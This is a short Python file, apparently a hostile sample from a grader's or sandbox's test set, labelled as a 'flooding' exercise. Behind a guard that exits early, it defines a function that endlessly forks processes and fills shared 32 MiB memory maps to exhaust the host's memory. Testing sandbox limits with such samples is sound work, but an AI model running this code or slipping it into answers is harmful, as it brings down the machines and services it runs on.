# exercise: gram
# family: flooding
# trick: hoards memory that belongs to several processes at once
# due: 0
raise SystemExit("a hostile answer: only a sandbox runs what follows")

import mmap
import os


def gram(X):
    hoard = []
    while True:
        piece = mmap.mmap(-1, 32 * 2**20)
        hoard.append(piece)
        if os.fork() == 0:
            piece.write(b"x" * len(piece))
            os.read(os.pipe()[0], 1)
        piece.write(b"x" * len(piece))
